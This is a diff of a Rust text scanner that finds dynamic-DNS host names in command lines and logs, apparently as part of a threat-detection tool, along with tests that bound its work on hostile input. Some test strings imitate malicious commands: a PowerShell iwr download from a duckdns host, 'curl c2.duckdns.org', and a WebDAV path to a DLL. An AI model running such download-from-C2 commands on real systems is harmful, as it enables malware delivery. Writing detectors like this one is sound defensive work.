@@ -1,88 +1,122 @@
 //! Free-text scanning: finds DDNS host names embedded in text such as a
 //! process command line or `_raw` (`powershell iwr http://x.duckdns.org/a`).
 //!
-//! An Aho-Corasick automaton over `.<zone>` for every zone finds candidate
-//! positions in one pass; each candidate is then widened to the whole run of
-//! host bytes around it (`[A-Za-z0-9._-]`) and judged by the ordinary
-//! longest-suffix rule, which enforces the label boundaries on both sides
-//! (`foo.duckdns.org.evil.com` and `foo.duckdns.organic` do not match). The
-//! automaton is built once per process, only when text mode is used.
+//! A host in text is a **run** of host bytes (`[A-Za-z0-9._-]`) that holds a
+//! dot. The scanner jumps from dot to dot (`memchr`), widens each dot to its
+//! run, and judges the run exactly as host mode judges a plain name: the
+//! same normalisation ([`HostExtractor`]: one trailing dot dropped, ASCII
+//! lower-cased, the name grammar checked) and the same suffix hash
+//! ([`ZoneSet::longest_match`]). Judging the whole run enforces the label
+//! boundaries on both sides (`foo.duckdns.org.evil.com` and
+//! `foo.duckdns.organic` do not match).
+//!
+//! Nothing is built per process: the zone list is the compiled-in hash
+//! table that host mode uses, so text mode starts as fast and as small as
+//! host mode (DESIGN.md, "Text mode"). Every byte is passed over at most
+//! twice (the dot search, then the widening of its run), and a run longer
+//! than a name is never judged, so the scan is linear in the text whatever
+//! it holds.
 
-use aho_corasick::{AhoCorasick, AhoCorasickBuilder, Input, MatchKind};
+use dynamicdns_zonetable::name::MAX_NAME;
 
-use dynamicdns_zonetable::name::is_valid_zone;
-
+use crate::host::HostExtractor;
 use crate::zoneset::{ZoneMatch, ZoneSet};
 
-/// A prebuilt scanner over the zone set it was built from.
+/// A scanner over a zone set; it holds only a scratch buffer.
 #[derive(Debug)]
 pub struct TextScanner<'z> {
     zones: &'z ZoneSet,
-    ac: AhoCorasick,
-    token: Vec<u8>,
+    hosts: HostExtractor,
+    #[cfg(test)]
+    work: Work,
 }
 
-/// The automaton could not be built (it would exceed aho-corasick's limits).
-#[derive(Debug, thiserror::Error)]
-#[error("cannot build the text scanner over the zone set: {0}")]
-pub struct ScannerBuildError(#[from] aho_corasick::BuildError);
+/// The error type of the callers' constructors that take a [`Mode`]: the
+/// scanner builds nothing, so it cannot fail.
+///
+/// [`Mode`]: crate::options::Mode
+pub type ScannerBuildError = std::convert::Infallible;
 
+/// Whether a byte may be part of a host in text: the label bytes in either
+/// case, and the dot.
+static HOST_BYTE: [bool; 256] = {
+    let mut t = [false; 256];
+    let mut b = 0;
+    while b < 256 {
+        let c = b as u8;
+        t[b] = c.is_ascii_alphanumeric() || c == b'.' || c == b'-' || c == b'_';
+        b += 1;
+    }
+    t
+};
+
+#[inline]
 fn is_host_byte(b: u8) -> bool {
-    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_')
+    HOST_BYTE[usize::from(b)]
 }
 
 impl<'z> TextScanner<'z> {
-    /// Builds the automaton over `.<zone>` for every zone of `zones`.
-    pub fn new(zones: &'z ZoneSet) -> Result<TextScanner<'z>, ScannerBuildError> {
-        let needles: Vec<Vec<u8>> = zones
-            .iter()
-            .map(|m| {
-                let mut n = Vec::with_capacity(m.zone.len() + 1);
-                n.push(b'.');
-                n.extend_from_slice(m.zone.as_bytes());
-                n
-            })
-            .collect();
-        let ac = AhoCorasickBuilder::new()
-            .ascii_case_insensitive(true)
-            .match_kind(MatchKind::LeftmostFirst)
-            .build(&needles)?;
-        Ok(TextScanner { zones, ac, token: Vec::new() })
+    /// A scanner over `zones`; it costs nothing that grows with the zones.
+    pub fn new(zones: &'z ZoneSet) -> TextScanner<'z> {
+        TextScanner {
+            zones,
+            hosts: HostExtractor::new(),
+            #[cfg(test)]
+            work: Work::default(),
+        }
     }
 
-    /// Calls `found` for every DDNS host in `text`, in order of appearance.
+    /// Calls `found` for every host in `text` that the zone set matches (a
+    /// DDNS host or a provider service host), in order of appearance; each
+    /// host is reported, whatever matched before it.
     pub fn scan(&mut self, text: &[u8], mut found: impl FnMut(ZoneMatch<'z>)) {
+        // Everything before `pos` is done; `text[pos]`, when `pos > 0`, is
+        // the byte that ended the previous run, not a host byte.
         let mut pos = 0;
-        while pos < text.len() {
-            let Some(m) = self.ac.find(Input::new(text).span(pos..text.len())) else { return };
-            // Widen the candidate to the run of host bytes around it.
-            let mut start = m.start();
-            while start > 0 && is_host_byte(text[start - 1]) {
+        while let Some(i) = memchr::memchr(b'.', &text[pos..]) {
+            let dot = pos + i;
+            let mut start = dot;
+            while start > pos && is_host_byte(text[start - 1]) {
                 start -= 1;
             }
-            let mut end = m.end();
+            let mut end = dot + 1;
             while end < text.len() && is_host_byte(text[end]) {
                 end += 1;
             }
-            self.token.clear();
-            self.token.extend_from_slice(&text[start..end]);
-            if self.token.last() == Some(&b'.') {
-                self.token.pop();
+            let run = &text[start..end];
+            #[cfg(test)]
+            {
+                self.work.searched += dot + 1 - pos;
+                self.work.widened += end - start;
             }
-            self.token.make_ascii_lowercase();
-            let hit = if is_valid_zone(&self.token) {
-                self.zones.longest_match(&self.token)
-            } else {
-                None
-            };
-            if let Some(z) = hit {
-                found(z);
+            // A run longer than a name (and its trailing dot) is no host;
+            // skipping it keeps a hostile run from being read again.
+            if run.len() <= MAX_NAME + 1 {
+                #[cfg(test)]
+                {
+                    self.work.judged += run.len();
+                }
+                if let Some(m) = self.hosts.host(run).and_then(|h| self.zones.longest_match(h)) {
+                    found(m);
+                }
             }
-            // Every other candidate inside this run widens to the same token,
-            // so skipping it keeps the scan linear on hostile input.
+            // The rest of the run has no other host: its dots widen to the
+            // same run.
             pos = end;
         }
     }
+}
+
+/// Bytes the scanner passed over, for the tests that bound its work.
+#[cfg(test)]
+#[derive(Debug, Default, Clone, Copy)]
+struct Work {
+    /// By the dot search.
+    searched: usize,
+    /// By the widening of dots to runs.
+    widened: usize,
+    /// Handed to host normalisation and the suffix hash.
+    judged: usize,
 }
 
 #[cfg(test)]
@@ -97,12 +131,15 @@ mod tests {
         .unwrap()
     }
 
-    fn scan(text: &str) -> Vec<String> {
-        let z = zones();
-        let mut s = TextScanner::new(&z).unwrap();
+    fn scan_in(z: &ZoneSet, text: &str) -> Vec<String> {
+        let mut s = TextScanner::new(z);
         let mut out = Vec::new();
         s.scan(text.as_bytes(), |m| out.push(m.zone.to_string()));
         out
+    }
+
+    fn scan(text: &str) -> Vec<String> {
+        scan_in(&zones(), text)
     }
 
     #[test]
@@ -110,7 +147,127 @@ mod tests {
         assert_eq!(scan("powershell iwr http://X.DuckDNS.org/a.ps1"), ["duckdns.org"]);
         assert_eq!(scan("a.home.dyndns.org, b.dyndns.org."), ["home.dyndns.org", "dyndns.org"]);
         assert!(scan("foo.duckdns.org.evil.com foo.duckdns.organic duckdns.org").is_empty());
+        assert!(scan("foo.duckdns.org.. a..duckdns.org .duckdns.org -x.duckdns.org.5").is_empty());
         assert_eq!(scan("x.duckdns.org.evil.com then y.duckdns.org"), ["duckdns.org"]);
+        assert_eq!(scan("\"a.duckdns.org\",'b.duckdns.org';c.duckdns.org."), ["duckdns.org"; 3]);
+        assert_eq!(scan("\\\\nas.duckdns.org@SSL\\DavWWWRoot\\x.dll"), ["duckdns.org"]);
         assert!(scan("").is_empty());
+        assert!(scan("no dots here").is_empty());
+        // A run longer than a name is not a host, even when it ends in one.
+        let long = format!("{}.duckdns.org", "a".repeat(250));
+        assert!(scan(&long).is_empty());
+        let label63 = "a".repeat(63);
+        assert_eq!(scan(&format!("x {label63}.duckdns.org y")), ["duckdns.org"]);
+        assert!(scan(&format!("x a{label63}.duckdns.org y")).is_empty());
+    }
+
+    /// Every host is reported, in text order: a later host of the same zone
+    /// and a provider's service host included.
+    #[test]
+    fn reports_every_host_in_order() {
+        let z = ZoneSet::embedded();
+        let mut s = TextScanner::new(&z);
+        let mut out = Vec::new();
+        let text = b"iwr https://www.duckdns.org/update?x; curl c2.duckdns.org; ping a.ddns.net b.duckdns.org";
+        s.scan(text, |m| out.push((m.zone, m.is_dyndns())));
+        assert_eq!(
+            out,
+            [
+                ("duckdns.org", false),
+                ("duckdns.org", true),
+                ("ddns.net", true),
+                ("duckdns.org", true)
+            ]
+        );
+    }
+
+    /// Bytes outside host names split runs as before: a URL's scheme, port,
+    /// path and query, userinfo, and non-ASCII bytes (which text mode does
+    /// not decode).
+    #[test]
+    fn runs_end_at_non_host_bytes() {
+        assert_eq!(
+            scan("http://u:p@a.duckdns.org:8080/p?q=b.dyndns.org#f"),
+            ["duckdns.org", "dyndns.org"]
+        );
+        assert_eq!(scan("b\u{fc}cher.duckdns.org"), ["duckdns.org"]);
+        assert!(scan("http://foo%2Educkdns%2Eorg/").is_empty());
+    }
+
+    fn work(text: &[u8]) -> (Work, usize) {
+        let z = ZoneSet::embedded();
+        let mut s = TextScanner::new(&z);
+        let mut n = 0;
+        s.scan(text, |_| n += 1);
+        (s.work, n)
+    }
+
+    /// The scan's work is linear in the text for any input: the dot search
+    /// passes over each byte once, the widening over each byte at most once
+    /// more, and a run is judged only when it can be a name. Checked on
+    /// hostile inputs by counting bytes, not time.
+    #[test]
+    fn work_is_linear_on_hostile_text() {
+        let mb = 10 << 20;
+        let dots_and_labels = b"a.".repeat(mb / 2);
+        // Many short hosts (one megabyte: each is judged, slow in a debug build).
+        let hosts = b"x.duckdns.org ".repeat(75_000);
+        let one_label = vec![b'a'; mb];
+        let long_then_dot = [&one_label[..], b".duckdns.org"].concat();
+        let dots = vec![b'.'; mb];
+        let cases: [(&[u8], usize); 5] = [
+            (&dots_and_labels, 0),
+            (&hosts, 75_000),
+            (&one_label, 0),
+            (&long_then_dot, 0),
+            (&dots, 0),
+        ];
+        for (text, want) in cases {
+            let (w, n) = work(text);
+            assert_eq!(n, want);
+            assert!(w.searched <= text.len(), "{w:?} for {} bytes", text.len());
+            assert!(w.widened <= text.len(), "{w:?} for {} bytes", text.len());
+            assert!(w.judged <= text.len(), "{w:?} for {} bytes", text.len());
+        }
+        // One run of ten megabytes is widened once and never judged.
+        let (w, _) = work(&dots_and_labels);
+        assert_eq!((w.widened, w.judged), (mb, 0));
+    }
+
+    /// The scanner agrees with host mode run by run: splitting the text at
+    /// every non-host byte and judging each run as a host gives the same
+    /// matches, in the same order.
+    #[test]
+    fn agrees_with_host_mode_on_each_run() {
+        use proptest::prelude::*;
+        let z = zones();
+        let piece = prop_oneof![
+            Just("duckdns.org"),
+            Just("DuckDNS.ORG"),
+            Just("home.dyndns.org"),
+            Just("dyndns.organic"),
+            Just("a"),
+            Just("b-"),
+            Just("_"),
+            Just("9"),
+            Just("."),
+            Just("."),
+            Just(" "),
+            Just("/"),
+            Just(":"),
+            Just("\u{e9}"),
+        ];
+        proptest!(|(parts in proptest::collection::vec(piece, 0..40))| {
+            let text = parts.concat();
+            let want: Vec<String> = text
+                .split(|c: char| !(c.is_ascii_alphanumeric() || "._-".contains(c)))
+                .filter_map(|run| {
+                    let mut x = HostExtractor::new();
+                    let host = x.host(run.as_bytes())?.to_vec();
+                    z.longest_match(&host).map(|m| m.zone.to_string())
+                })
+                .collect();
+            prop_assert_eq!(scan_in(&z, &text), want, "{:?}", text);
+        });
     }
 }
